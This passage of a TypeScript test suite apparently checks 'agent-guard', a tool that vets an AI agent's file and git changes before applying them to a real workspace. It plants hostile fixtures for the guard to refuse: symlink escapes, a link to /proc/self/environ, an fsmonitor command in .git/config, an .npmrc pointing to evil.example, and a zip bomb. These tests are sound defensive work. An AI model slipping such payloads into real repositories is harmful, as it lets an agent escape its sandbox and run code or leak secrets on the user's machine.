    expect(scan({ limits: { maxFiles: 40 } }).changes.files.length).toBe(30);
  });

  it('refuses a change set larger than --max-disk at its apparent size (a sparse terabyte) before copying a byte', () => {
    tree(upper, { 'small.txt': 'ok\n' });
    const fd = fs.openSync(path.join(upper, 'huge.bin'), 'w');
    fs.ftruncateSync(fd, 1024 ** 4);
    fs.closeSync(fd);
    let caught: unknown;
    try {
      scan({ limits: { maxBytes: 1024 ** 3 } });
    } catch (err) {
      caught = err;
    }
    expect(caught).toBeInstanceOf(GuardError);
    expect((caught as GuardError).layer).toBe('boundary');
    expect((caught as Error).message).toBe("the agent's changes hold 1 TiB (sparse files count in full), more than --max-disk 1 GiB; nothing was brought back");
    expect(fs.readdirSync(content)).toEqual([]);
  });

  it('refuses a folder whose path is longer than the workspace can take, and removes the tree anyway', () => {
    // Made with relative mkdir and chdir, as an agent would: no single path names the bottom.
    const child = execFileSync(process.execPath, ['-e', 'const fs = require("fs"); process.chdir(process.argv[1]); for (let i = 0; i < 400; i++) { fs.mkdirSync("deep_folder"); process.chdir("deep_folder"); } fs.writeFileSync("bottom.txt", "b");', upper]);
    expect(child.length).toBe(0);
    tree(upper, { 'fine.txt': 'fine\n' });
    const r = scan();
    expect(byPath(r)).toEqual({ 'fine.txt': 'write 644 fine\n' });
    expect(r.changes.refused).toEqual([{ path: expect.stringMatching(/^(deep_folder\/){300,}deep_folder$/), reason: expect.stringMatching(/^refused: the path is longer than the \d+ bytes/) }]);
    // The probe (which compares the merged and lower views) walks the same tree without failing.
    const out = path.join(base, 'opaque.json');
    fs.writeFileSync(path.join(base, 'probe.js'), probeSource());
    execFileSync(process.execPath, [path.join(base, 'probe.js'), lower, upper, upper, out]);
    expect(JSON.parse(fs.readFileSync(out, 'utf8'))).toEqual([]);
    expect(removeTree(upper)).toBe(true);
    expect(fs.existsSync(upper)).toBe(false);
  });
});

describeRoot('applying a change set to the real workspace', () => {
  let base: string;
  let ws: string;
  let outside: string;
  let content: string;
  const write = (p: string, text: string, mode: 0o644 | 0o755 = 0o644): FileChange => {
    const contentFile = path.join(content, String(fs.readdirSync(content).length));
    fs.writeFileSync(contentFile, text);
    return { kind: 'write', path: p, mode, contentFile, size: text.length, sha256: 'x' };
  };

  beforeEach(() => {
    base = fs.mkdtempSync(path.join(os.tmpdir(), 'agent-guard-apply-'));
    ws = path.join(base, 'ws');
    outside = path.join(base, 'outside');
    content = path.join(base, 'content');
    for (const d of [ws, outside, content]) fs.mkdirSync(d);
    tree(ws, { 'a.txt': 'a\n', 'gone/x': 'x\n' });
    tree(outside, { 'victim': 'untouched\n' });
    // Planted by the pull request before the run.
    fs.symlinkSync(outside, path.join(ws, 'docs'));
    fs.symlinkSync(path.join(outside, 'victim'), path.join(ws, 'report.md'));
  });
  afterEach(() => fs.rmSync(base, { recursive: true, force: true }));

  it('writes, deletes and links as the workspace owner, atomically, and never through a planted link', () => {
    const owner = { uid: 4243, gid: 4244 };
    const changes: FileChange[] = [
      write('a.txt', 'A\n'), write('new/dir/f.sh', 'run\n', 0o755), { kind: 'delete', path: 'gone/x' }, write('docs/victim', 'PWNED\n'),
      write('report.md', 'the report\n'), { kind: 'delete', path: 'docs/victim' }, { kind: 'symlink', path: 'latest', target: 'docs/victim' },
      { kind: 'symlink', path: 'ok-link', target: 'a.txt' },
    ];
    const r = applyChangeSet(ws, changes, ['gone'], owner);
    expect(fs.readFileSync(path.join(outside, 'victim'), 'utf8')).toBe('untouched\n');
    expect(r.failed.map((f) => f.path).sort()).toEqual(['docs/victim', 'docs/victim', 'latest']);
    expect(r.failed.find((f) => f.path === 'latest')!.reason).toMatch(/passes through docs, a symlink/);
    expect(fs.readFileSync(path.join(ws, 'a.txt'), 'utf8')).toBe('A\n');
    // The planted link itself is replaced by a file; its target is untouched.
    expect(fs.lstatSync(path.join(ws, 'report.md')).isFile()).toBe(true);
    const script = fs.statSync(path.join(ws, 'new/dir/f.sh'));
    expect([script.mode & 0o7777, script.uid, script.gid, fs.statSync(path.join(ws, 'new')).uid]).toEqual([0o755, 4243, 4244, 4243]);
    expect(fs.existsSync(path.join(ws, 'gone'))).toBe(false);
    expect(fs.readlinkSync(path.join(ws, 'ok-link'))).toBe('a.txt');
    expect(fs.readdirSync(ws).filter((n) => n.startsWith('.agent-guard-'))).toEqual([]);
  });

  it('refuses link chains that climb out although each link stays inside lexically', () => {
    // `sub/c -> ..` is the workspace itself; `a -> sub/c/../..` normalises to `.` but resolves above it.
    const r = applyChangeSet(ws, [
      { kind: 'symlink', path: 'a', target: 'sub/c/../..' }, { kind: 'symlink', path: 'sub/c', target: '..' }, { kind: 'symlink', path: 'b', target: 'docs/victim' },
    ], [], undefined);
    expect(r.failed.map((f) => [f.path, f.reason])).toEqual([
      ['a', expect.stringMatching(/passes through sub\/c, a symlink/)],
      ['b', expect.stringMatching(/passes through docs, a symlink/)],
    ]);
    expect(fs.existsSync(path.join(ws, 'a'))).toBe(false);
    expect(fs.readlinkSync(path.join(ws, 'sub', 'c'))).toBe('..');
  });
});

describeRoot('commits come back as objects and a ref', () => {
  let base: string;
  let real: string;
  let agent: string;
  const git = (cwd: string, ...args: string[]) =>
    execFileSync('git', ['-c', 'user.email=a@example.com', '-c', 'user.name=A', '-c', 'init.defaultBranch=main', ...args], { cwd, encoding: 'utf8', env: { PATH: process.env.PATH, HOME: base, GIT_CONFIG_NOSYSTEM: '1' } }).trim();

  beforeEach(() => {
    base = fs.mkdtempSync(path.join(os.tmpdir(), 'agent-guard-commits-'));
    real = path.join(base, 'real');
    agent = path.join(base, 'agent');
    fs.mkdirSync(real);
    git(real, 'init', '-q');
    fs.writeFileSync(path.join(real, 'a.txt'), 'a\n');
    git(real, 'add', '-A');
    git(real, 'commit', '-qm', 'base');
    execFileSync('cp', ['-a', real, agent]);
  });
  afterEach(() => fs.rmSync(base, { recursive: true, force: true }));
  const importInput = (allow: string[] = [], maxBytes = 1024 ** 3) => ({
    workspace: real, agentGitDir: path.join(agent, '.git'), runId: 'test', owner: undefined, policy: buildPolicy(real, allow), maxBytes, maxFiles: 1000,
  });

  it('imports a new commit under refs/agent-guard and leaves HEAD, the branch and the config alone', () => {
    fs.writeFileSync(path.join(agent, 'a.txt'), 'agent\n');
    git(agent, 'commit', '-qam', 'agent: change a');
    // What the agent also did to its copy of .git must not come back.
    fs.appendFileSync(path.join(agent, '.git', 'config'), '[core]\n\tfsmonitor = touch /tmp/pwned\n');
    fs.writeFileSync(path.join(agent, '.git', 'objects', 'info', 'alternates'), '/etc\n');
    const sha = git(agent, 'rev-parse', 'HEAD');
    const headBefore = git(real, 'rev-parse', 'HEAD');
    const configBefore = fs.readFileSync(path.join(real, '.git', 'config'), 'utf8');
    const r = importCommits({ ...importInput(), runId: 'test-1' });
    expect(r.refused).toEqual([]);
    expect(r.commits).toEqual([{ sha, ref: 'refs/agent-guard/test-1/main', subject: 'agent: change a' }]);
    expect(git(real, 'log', '--format=%s', 'refs/agent-guard/test-1/main')).toBe('agent: change a\nbase');
    expect(git(real, 'diff', '--stat', 'HEAD', 'refs/agent-guard/test-1/main')).toContain('a.txt');
    expect(git(real, 'rev-parse', 'HEAD')).toBe(headBefore);
    expect(fs.readFileSync(path.join(real, '.git', 'config'), 'utf8')).toBe(configBefore);
    expect(fs.existsSync(path.join(real, '.git', 'objects', 'info', 'alternates'))).toBe(false);
    expect(fs.readdirSync(path.join(real, '.git', 'objects')).filter((n) => n.startsWith('agent-guard-incoming'))).toEqual([]);
  });

  it('refuses a commit whose objects are missing, and writes no ref', () => {
    fs.writeFileSync(path.join(agent, 'b.txt'), 'b\n');
    git(agent, 'add', '-A');
    git(agent, 'commit', '-qm', 'agent: add b');
    const blob = git(agent, 'rev-parse', 'HEAD:b.txt');
    fs.rmSync(path.join(agent, '.git', 'objects', blob.slice(0, 2), blob.slice(2)));
    const r = importCommits({ ...importInput(), runId: 'test-2' });
    expect(r.commits).toEqual([]);
    expect(r.refused).toEqual([{ path: '.git (main)', reason: expect.stringMatching(/^commit not brought back/) }]);
    expect(git(real, 'for-each-ref', 'refs/agent-guard')).toBe('');
  });

  it('judges every new commit with the file policy: a workflow, an .npmrc, a link out, a gitlink, a change undone later', () => {
    const branch = (name: string, steps: string[]) => {
      git(agent, 'checkout', '-q', '-b', name, 'main');
      for (const step of steps) execFileSync('sh', ['-c', step], { cwd: agent, env: { PATH: process.env.PATH, HOME: base, GIT_CONFIG_NOSYSTEM: '1' } });
    };
    const commit = (msg: string) => `git -c user.email=a@example.com -c user.name=A commit -qm ${msg}`;
    branch('wf', ['mkdir -p .github/workflows && echo "on: push" > .github/workflows/x.yml && git add -A', commit('wf')]);
    branch('npmrc', ['echo registry=https://evil.example/ > .npmrc && git add -A', commit('npmrc')]);
    branch('link', ['ln -s /proc/self/environ report.md && git add -A', commit('link')]);
    branch('root', ['ln -s . all && git add -A', commit('root')]);
    branch('sub', ['git update-index --add --cacheinfo 160000,1111111111111111111111111111111111111111,sub', commit('sub')]);
    branch('undone', ['echo registry=https://evil.example/ > .npmrc && git add -A', commit('add'), 'git rm -q .npmrc', commit('remove')]);
    branch('attrs', [`printf '%s' '${'# pad\\n'.repeat(10)}* filter=evil' > .gitattributes && git add -A`, commit('attrs')]);
    branch('newline', ["mkdir -p \"$(printf 'a\\nb')\" && echo x > \"$(printf 'a\\nb')/c\" && git add -A", commit('newline')]);
    branch('printed', ["printf '::set-output name=ok::true\\n' > report.md && git add -A", commit('printed')]);
    branch('ok', ['echo fine > fine.txt && ln -s fine.txt alias && git add -A', commit('ok')]);
    const r = importCommits(importInput());
    const reasons = Object.fromEntries(r.refused.map((x) => [x.path, x.reason]));
    expect(Object.keys(reasons).sort()).toEqual(['attrs', 'link', 'newline', 'npmrc', 'printed', 'root', 'sub', 'undone', 'wf'].map((b) => `.git (${b})`));
    expect(reasons['.git (printed)']).toMatch(/adds report\.md: a later step that prints it/);
    expect(reasons['.git (wf)']).toMatch(/^commit not brought back: [0-9a-f]{12} adds \.github\/workflows\/x\.yml: workflows/);
    expect(reasons['.git (link)']).toMatch(/adds report\.md: a symlink to "\/proc\/self\/environ", which points outside the workspace/);
    expect(reasons['.git (root)']).toMatch(/adds all: .*the whole workspace/);
    expect(reasons['.git (sub)']).toMatch(/adds sub: a submodule commit/);
    expect(reasons['.git (undone)']).toMatch(/adds \.npmrc: npm reads/);
    expect(reasons['.git (attrs)']).toMatch(/adds \.gitattributes: filter/);
    expect(reasons['.git (newline)']).toMatch(/adds a\\nb\/c: the name holds a control/);
    expect(r.commits.map((c) => c.ref)).toEqual(['refs/agent-guard/test/ok']);
    expect(git(real, 'for-each-ref', '--format=%(refname)', 'refs/agent-guard')).toBe('refs/agent-guard/test/ok');
    // --allow-path lifts tool configuration for commits as for files, never the structural rules.
    const allowed = importCommits({ ...importInput(['.npmrc', '.github/**']), runId: 'allowed' });
    expect(allowed.commits.map((c) => c.ref).sort()).toEqual(['refs/agent-guard/allowed/npmrc', 'refs/agent-guard/allowed/undone', 'refs/agent-guard/allowed/wf']);
  });

  it('refuses a committed link whose target routes through another link, as a later checkout would make both', () => {
    git(agent, 'checkout', '-q', '-b', 'route', 'main');
    fs.mkdirSync(path.join(agent, 'x', 'y'), { recursive: true });
    // x/y/z is x: harmless alone; a -> x/y/z/../../q stays inside lexically but the kernel climbs out.
    fs.symlinkSync('..', path.join(agent, 'x', 'y', 'z'));
    fs.symlinkSync('x/y/z/../../q', path.join(agent, 'a'));
    git(agent, 'add', '-A');
    git(agent, 'commit', '-qm', 'route');
    const r = importCommits(importInput());
    expect(r.refused).toEqual([{ path: '.git (route)', reason: expect.stringMatching(/adds a: a symlink to "x\/y\/z\/\.\.\/\.\.\/q": its target passes through x\/y\/z, a symlink/) }]);
  });

  it(`refuses more than ${MAX_TIPS} branches in one line, without a git call per branch`, () => {
    const sha = git(agent, 'rev-parse', 'HEAD');
    for (let i = 0; i <= MAX_TIPS + 5; i++) fs.writeFileSync(path.join(agent, '.git', 'refs', 'heads', `b${i}`), `${sha}\n`);
    expect(importCommits(importInput()).refused).toEqual([{ path: '.git', reason: `commits not brought back: the agent made more than ${MAX_TIPS} branches` }]);
  });

  it('scans a committed file larger than it reads into memory for printed workflow commands, through a file', () => {
    fs.writeFileSync(path.join(agent, 'big.log'), `${'log line\n'.repeat(2_000_000)}::set-output name=ok::true\n`);
    git(agent, 'add', '-A');
    git(agent, 'commit', '-qm', 'big log');
    expect(importCommits({ ...importInput([], 64 * 1024 ** 2), runId: 'big' }).refused).toEqual([{ path: '.git (main)', reason: expect.stringMatching(/adds big\.log: a later step that prints it/) }]);
    expect(fs.readdirSync(path.join(real, '.git', 'objects')).filter((n) => n.startsWith('agent-guard-incoming'))).toEqual([]);
  });

  it('refuses commits whose objects inflate past --max-disk (a zip bomb), reading only their headers', () => {
    // 64 MiB of zeros: git stores it in about 64 KB.
    fs.writeFileSync(path.join(agent, 'bomb.bin'), Buffer.alloc(64 * 1024 ** 2));
    git(agent, 'add', '-A');
    git(agent, 'commit', '-qm', 'bomb');
    const stored = execFileSync('du', ['-sb', path.join(agent, '.git', 'objects')], { encoding: 'utf8' });
    expect(Number(stored.split('\t')[0])).toBeLessThan(1024 ** 2);
    expect(importCommits({ ...importInput([], 1024 ** 2), runId: 'small' }).refused).toEqual([{ path: '.git (main)', reason: 'commit not brought back: its objects hold 64 MiB once inflated, more than --max-disk 1 MiB' }]);
    expect(git(real, 'for-each-ref', 'refs/agent-guard')).toBe('');
    expect(importCommits({ ...importInput([], 128 * 1024 ** 2), runId: 'room' }).commits.length).toBe(1);
  });

  it('never reads through a link in the agent\'s .git: another repository\'s objects and branches stay where they are', () => {
    const other = path.join(base, 'other');
    fs.mkdirSync(other);
    git(other, 'init', '-q');
    fs.writeFileSync(path.join(other, 'secret.txt'), 'secret\n');
    git(other, 'add', '-A');
    git(other, 'commit', '-qm', 'secret');
    const secret = git(other, 'rev-parse', 'HEAD');
    // The objects folder a link to the other repository's, the branch its commit.
    fs.rmSync(path.join(agent, '.git', 'objects'), { recursive: true });
    fs.symlinkSync(path.join(other, '.git', 'objects'), path.join(agent, '.git', 'objects'));
    fs.writeFileSync(path.join(agent, '.git', 'refs', 'heads', 'main'), `${secret}\n`);
    expect(importCommits(importInput()).refused).toEqual([{ path: '.git', reason: expect.stringMatching(/^commits not brought back: \.git\/objects is a symlink/) }]);
    // The whole .git a link: its branches are not even read.
    const linked = path.join(base, 'linked');
    fs.mkdirSync(linked);
    fs.symlinkSync(path.join(other, '.git'), path.join(linked, '.git'));
    expect(agentTips(path.join(other, '.git')).size).toBe(1); // (read through its real path, it has a branch)
    expect(importCommits({ ...importInput(), agentGitDir: path.join(linked, '.git') }).refused).toEqual([{ path: '.git', reason: expect.stringMatching(/^commits not brought back: \.git is a symlink/) }]);
    // refs/heads a link: no tips from it.
    const refsLinked = path.join(base, 'refs-linked');
    fs.mkdirSync(path.join(refsLinked, 'refs'), { recursive: true });
    fs.symlinkSync(path.join(other, '.git', 'refs', 'heads'), path.join(refsLinked, 'refs', 'heads'));
    expect(agentTips(refsLinked).size).toBe(0);
    expect(() => git(real, 'cat-file', '-e', secret)).toThrow();
  });

  it('reads tips as text: loose refs, packed refs and a detached HEAD, ignoring odd names', () => {
    const dir = path.join(base, 'tips');
    tree(dir, {
      'HEAD': 'a'.repeat(40) + '\n', 'refs/heads/feature/x': 'b'.repeat(40) + '\n', 'refs/heads/junk': 'not a sha\n',
      'packed-refs': `# pack-refs\n${'c'.repeat(40)} refs/heads/packed\n${'d'.repeat(40)} refs/tags/v1\n`,
    });
    expect(Object.fromEntries(agentTips(dir))).toEqual({ HEAD: 'a'.repeat(40), 'feature/x': 'b'.repeat(40), packed: 'c'.repeat(40) });
  });
});
